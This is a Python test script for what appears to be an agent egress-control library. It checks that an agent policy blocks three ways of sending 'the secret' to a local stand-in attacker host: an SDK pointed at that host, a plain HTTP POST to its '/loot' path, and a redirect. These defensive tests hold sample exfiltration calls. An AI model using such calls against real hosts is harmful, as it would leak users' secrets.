"""A host that the policy does not list is not reached: not by the SDK, not by a plain client, not by a redirect."""

import httpx2
import openai

import agentguard
from agentguard.testing import Provider, Recorder

POLICY = """
version: 1
agents:
  - name: reader
    external_calls: {allowed_domains: [127.0.0.1], blocked_domains: ["*"]}
"""


def main() -> None:
    policy = agentguard.Policy.from_yaml(POLICY)
    with Provider() as allowed, Recorder("127.0.0.2") as attacker, agentguard.instrument(policy, store="memory://"):
        allowed.redirect("/moved", to=attacker.url("/loot"))
        elsewhere = openai.OpenAI(base_url=attacker.url("/v1"), api_key="sk-none")
        ways = {
            "the SDK, pointed elsewhere": lambda: elsewhere.responses.create(model="gpt-5-mini", input="the secret"),
            "a plain HTTP client": lambda: httpx2.post(attacker.url("/loot"), content="the secret"),
            "a redirect from an allowed host": lambda: httpx2.post(allowed.url("/moved"), content="x", follow_redirects=True),
        }
        for name, way in ways.items():
            try:
                way()
            except agentguard.EgressDenied as denied:
                print(f"{name}: {denied}\n")
        print(f"the attacker received {attacker.calls} requests")
        assert attacker.calls == 0


if __name__ == "__main__":
    main()
